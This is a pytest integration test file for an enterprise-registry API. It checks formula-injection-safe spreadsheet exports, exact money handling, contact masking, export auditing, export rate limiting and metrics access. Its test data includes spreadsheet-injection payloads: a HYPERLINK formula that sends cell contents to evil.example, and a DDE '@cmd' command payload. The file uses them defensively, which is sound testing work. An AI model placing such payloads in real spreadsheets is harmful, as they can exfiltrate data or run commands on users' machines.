"""Issue 8 through the gateway: no formula cell from user text in any export (and the round trip
gives the text back), money exact to the cent, contacts masked for platforms without the
contact_data scope, every export audited, one export per caller at a time, /metrics restricted,
security headers."""

from __future__ import annotations

import asyncio
import io
import uuid
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook
from sqlmodel import select

from services.eligibility.persistence.tables import SeedBank
from services.registry.api.routes import imports as import_routes
from services.registry.domain.importing import HEADERS
from services.registry.persistence.tables import ExportAudit
from shared.identity import Role
from shared.xlsx import CSV_MEDIA_TYPE, csv_bytes
from tests.integration.test_registry_bulk_import import run_import
from tests.support.builders import enterprise, financials
from tests.support.platform import RunningPlatform, running_platform

pytestmark = pytest.mark.asyncio(loop_scope="session")
ENTERPRISES = "/api/v1/registry/enterprises"
EXPORT = "/api/v1/registry/exports/enterprises.xlsx"
HOSTILE_TEXTS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "+SUM(1,2)", "-2+3", "@cmd|' /C calc'!A0",
                 "\t=1+1", "=1+1"]  # fmt: skip


@pytest.fixture
async def platform(tmp_path: Path) -> AsyncIterator[RunningPlatform]:
    async with running_platform(tmp_path, registry_import_dir=tmp_path / "imports") as running:
        yield running


def hostile_enterprise(serial: int) -> dict[str, Any]:
    name = f'=HYPERLINK("http://evil.example","公司{serial}")'
    return enterprise(serial, name=name, main_products=HOSTILE_TEXTS[1:3], niche_market=HOSTILE_TEXTS[3],
                      legal_representative="@张三")  # fmt: skip


def as_text(value: Any) -> Any:
    return value.date().isoformat() if isinstance(value, datetime) else value


def formula_cells(content: bytes) -> list[str]:
    """Cells a spreadsheet program would run: openpyxl's type 'f' — or text that would become a
    formula when typed, not flagged with Excel's quote prefix."""
    workbook = load_workbook(io.BytesIO(content))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                live = cell.data_type == "f"
                risky_text = isinstance(cell.value, str) and cell.value[:1] in ("=", "+", "-", "@", "\t", "\r")
                if live or (risky_text and not cell.quotePrefix):
                    found.append(f"{sheet.title}!{cell.coordinate}={cell.value!r}")
    return found


async def test_no_export_carries_a_formula_from_user_text_and_the_round_trip_keeps_the_text(
    platform: RunningPlatform, tmp_path: Path
) -> None:
    admin = await platform.client(Role.ADMIN)
    bodies = [hostile_enterprise(serial) for serial in (1, 2)]
    for body in bodies:
        assert (await admin.post(ENTERPRISES, json=body)).status_code == 201
        put = await admin.put(f"{ENTERPRISES}/{body['uscc']}/financials/2025", json=financials())
        assert put.status_code == 201
    # An import whose report echoes hostile cell values.
    bad = csv_bytes(HEADERS, [[HOSTILE_TEXTS[0], "=1+1", None, None, "530102", "C3985"]])
    job = await run_import(admin, bad, "bad.csv", dry_run=False)
    assert job["rejected_rows"] == 1
    # A seed bank holding a hostile name (written as eligibility would write it).
    bank_id = str(uuid.uuid4())
    async with platform.platform.runtimes["eligibility"].uow() as uow:
        uow.session.add(SeedBank(id=bank_id, year=2026, tier="srdi_sme", growth_target=1, multiple=2,
                                 filing_deadline="2026-01-31", scope="53", size=1, per_prefecture={"5301": 1},
                                 entries=[{"rank": 1, "enterprise_id": bodies[0]["uscc"], "name": bodies[0]["name"],
                                           "prefecture": "5301", "closeness": "-0.5", "decision": "=eligible",
                                           "score": 80}],
                                 created_by="test", created_at=datetime.now(UTC)))  # fmt: skip
        await uow.commit()

    # A bank whose name looks like a formula (finance statistics list banks by name).
    bank = {"id": "bank-formula", "name": HOSTILE_TEXTS[0], "name_en": "=1+1"}
    assert (await admin.post("/api/v1/finance/banks", json=bank)).status_code == 201

    exports = {
        "finance statistics": "/api/v1/finance/stats/export.xlsx",
        "register": EXPORT,
        "import report": f"/api/v1/registry/imports/{job['id']}/report.xlsx",
        "seed bank": f"/api/v1/eligibility/seed-banks/{bank_id}/export.xlsx",
        "template": "/api/v1/registry/imports/template.xlsx",
    }
    document = (await platform.gateway.get("/openapi.json")).json()
    listed = {path for path in document["paths"] if path.endswith((".xlsx", ".csv"))}
    assert len(listed) == len(exports), f"a new export to add here: {sorted(listed)}"
    for label, url in exports.items():
        response = await admin.get(url)
        assert response.status_code == 200, (label, response.text)
        assert formula_cells(response.content) == [], label

    register = load_workbook(io.BytesIO((await admin.get(EXPORT)).content)).worksheets[0]
    names = {row[0].value for row in register.iter_rows(min_row=2)}
    assert names == {b["name"] for b in bodies}, "the stored text is the original text"

    # Round trip into a fresh register: the XLSX export and the CSV writer both give the text back.
    # (The version column is blanked: in a fresh register the enterprises are new.)
    version = HEADERS.index("版本号")
    workbook = load_workbook(io.BytesIO((await admin.get(EXPORT)).content))
    for row in workbook.worksheets[0].iter_rows(min_row=2):
        row[version].value = None
    buffer = io.BytesIO()
    workbook.save(buffer)
    exported = buffer.getvalue()
    rows = [
        [None if i == version else as_text(c.value) for i, c in enumerate(row)] for row in register.iter_rows(min_row=2)
    ]
    async with running_platform(tmp_path / "other", registry_import_dir=tmp_path / "other-imports") as other:
        other_admin = await other.client(Role.ADMIN)
        for content, name in ((exported, "export.xlsx"), (csv_bytes(HEADERS, rows), "export.csv")):
            job = await run_import(other_admin, content, name, dry_run=False)
            assert job["status"] == "done" and job["problems"] == [], job
        for body in bodies:
            record = (await other_admin.get(f"{ENTERPRISES}/{body['uscc']}")).json()
            assert record["name"] == body["name"]
            assert record["main_products"] == body["main_products"]
            assert record["niche_market"] == body["niche_market"]
    assert csv_bytes(["a"], [["=1"]]).decode("utf-8-sig").splitlines()[1] == "'=1"
    assert CSV_MEDIA_TYPE.startswith("text/csv")


async def test_money_is_exact_to_the_cent_and_bounded(platform: RunningPlatform) -> None:
    admin = await platform.client(Role.ADMIN)
    body = enterprise(3)
    assert (await admin.post(ENTERPRISES, json=body)).status_code == 201
    url = f"{ENTERPRISES}/{body['uscc']}/financials"
    largest = "99999999999999.99"  # a float cannot hold it; the SQLite float column used to round it
    raw = b'{"operating_revenue": 99999999999999.99, "net_profit": "-12345678901234.57", "total_assets": 1e2}'
    put = await admin.put(f"{url}/2025", content=raw, headers={"content-type": "application/json"})
    assert put.status_code == 201, put.text
    assert put.json()["operating_revenue"] == largest
    stored = (await admin.get(url)).json()[0]
    assert (stored["operating_revenue"], stored["net_profit"], stored["total_assets"]) == (
        largest, "-12345678901234.57", "100.00")  # fmt: skip
    for bad in ("999999999999999999999999999999999.999", "1e308", "100000000000000.01", "0.001", "NaN", '"1e3"',
                '"１２３"', "true"):  # fmt: skip
        response = await admin.put(f"{url}/2024", content=f'{{"operating_revenue": {bad}}}'.encode(),
                                   headers={"content-type": "application/json"})  # fmt: skip
        assert response.status_code == 422, (bad, response.text)
        assert response.json()["errors"][0]["field"] == "operating_revenue"
    assert len((await admin.get(url)).json()) == 1


async def platform_client(platform: RunningPlatform, admin: httpx.AsyncClient, scopes: list[str]) -> httpx.AsyncClient:
    key = {"role": "platform", "tenant": "gov-platform", "name": "平台", "scopes": scopes}
    issued = await admin.post("/api/v1/gateway/api-keys", json=key)
    assert issued.status_code == 201, issued.text
    return httpx.AsyncClient(transport=httpx.ASGITransport(app=platform.platform.app), base_url="http://gateway",
                             headers={"Authorization": f"Bearer {issued.json()['key']}"})  # fmt: skip


async def test_platforms_see_contacts_masked_unless_their_key_grants_them_and_every_export_is_audited(
    platform: RunningPlatform,
) -> None:
    admin = await platform.client(Role.ADMIN)
    body = enterprise(4)
    assert (await admin.post(ENTERPRISES, json=body)).status_code == 201
    plain = await platform_client(platform, admin, [])
    granted = await platform_client(platform, admin, ["contact_data"])
    assert (await granted.get("/api/v1/gateway/whoami")).json()["scopes"] == ["contact_data"]

    masked = (await plain.get(f"{ENTERPRISES}/{body['uscc']}")).json()
    assert masked["contact_phone"] == "138****5678" and masked["contact_email"] == "o***@example.cn"
    assert masked["legal_representative"] == "张*"
    full = (await granted.get(f"{ENTERPRISES}/{body['uscc']}")).json()
    assert (full["contact_phone"], full["contact_email"], full["legal_representative"]) == (
        body["contact_phone"], body["contact_email"], body["legal_representative"])  # fmt: skip

    def contacts(content: bytes) -> list[Any]:
        sheet = load_workbook(io.BytesIO(content)).worksheets[0]
        row = next(sheet.iter_rows(min_row=2, values_only=True))
        return [row[HEADERS.index(h)] for h in ("法定代表人", "联系电话", "电子邮箱")]

    assert contacts((await plain.get(EXPORT, params={"county": "530102"})).content) == ["张*", "138****5678",
                                                                                      "o***@example.cn"]  # fmt: skip
    assert contacts((await granted.get(EXPORT)).content) == ["张三", "13812345678", "ops@example.cn"]
    async with platform.platform.runtimes["registry"].uow() as uow:
        audit = list(await uow.session.exec(select(ExportAudit).order_by(ExportAudit.id)))  # type: ignore[arg-type]
    assert [(a.role, a.filter, a.rows, a.contacts_unmasked) for a in audit] == [
        ("platform", {"county": "530102"}, 1, False), ("platform", {}, 1, True)]  # fmt: skip
    assert all(a.subject.startswith("key:") and a.exported_at for a in audit)
    logged = (await admin.get("/api/v1/registry/audit/exports")).json()
    assert [(e["role"], e["filter"], e["rows"]) for e in logged] == [
        ("platform", {}, 1),
        ("platform", {"county": "530102"}, 1),
    ]
    assert (await plain.get("/api/v1/registry/audit/exports")).status_code == 403
    unknown_scope = await admin.post("/api/v1/gateway/api-keys",
                                     json={"role": "platform", "name": "x", "scopes": ["everything"]})  # fmt: skip
    assert unknown_scope.status_code == 422


async def test_a_second_concurrent_export_of_the_same_caller_gets_429(
    platform: RunningPlatform, monkeypatch: pytest.MonkeyPatch
) -> None:
    admin = await platform.client(Role.ADMIN)
    for serial in (5, 6):
        assert (await admin.post(ENTERPRISES, json=enterprise(serial))).status_code == 201
    # The first export is held mid-way (as a slow one would be) until the test lets it go.
    release, started = asyncio.Event(), asyncio.Event()
    write_export = import_routes._write_export

    async def held(*args: Any) -> Any:
        started.set()
        await release.wait()
        return await write_export(*args)

    monkeypatch.setattr(import_routes, "_write_export", held)
    first = asyncio.create_task(admin.get(EXPORT))
    await asyncio.wait_for(started.wait(), timeout=10)
    second = await admin.get(EXPORT)
    assert second.status_code == 429 and second.headers["Retry-After"].isdigit()
    assert second.headers["content-type"] == "application/problem+json" and second.json()["title_zh"]
    other = await platform.client(Role.PROVINCIAL_OPERATOR, "53")
    assert (await other.get(ENTERPRISES, params={"limit": 1})).status_code == 200, "the API keeps serving"
    release.set()
    done = await first
    assert done.status_code == 200 and done.content[:2] == b"PK"
    assert (await admin.get(EXPORT)).status_code == 200, "the slot is free again"


async def test_metrics_only_from_allowed_networks_or_with_the_key_and_security_headers_everywhere(
    tmp_path: Path,
) -> None:
    async with running_platform(tmp_path, metrics_key="m" * 32) as platform:
        app = platform.platform.app

        def client(address: str) -> httpx.AsyncClient:
            return httpx.AsyncClient(transport=httpx.ASGITransport(app=app, client=(address, 4000)),
                                     base_url="http://gateway")  # fmt: skip

        async with client("127.0.0.1") as local, client("10.20.30.40") as remote:
            assert (await local.get("/metrics")).status_code == 200
            refused = await remote.get("/metrics")
            assert refused.status_code == 404 and "srdi_" not in refused.text
            assert (await remote.get("/metrics", headers={"X-Metrics-Key": "m" * 32})).status_code == 200
            assert (await remote.get("/metrics", headers={"X-Metrics-Key": "wrong"})).status_code == 404
            response = await remote.get(ENTERPRISES)
        assert response.status_code == 401
        for name, value in (("x-content-type-options", "nosniff"), ("x-frame-options", "DENY"),
                            ("cache-control", "no-store")):  # fmt: skip
            assert response.headers[name] == value
        assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
        assert "strict-transport-security" not in response.headers and "server" not in response.headers
    async with running_platform(tmp_path / "tls", tls_terminated=True) as platform:
        health = await platform.gateway.get("/healthz")
        assert health.headers["strict-transport-security"].startswith("max-age=")
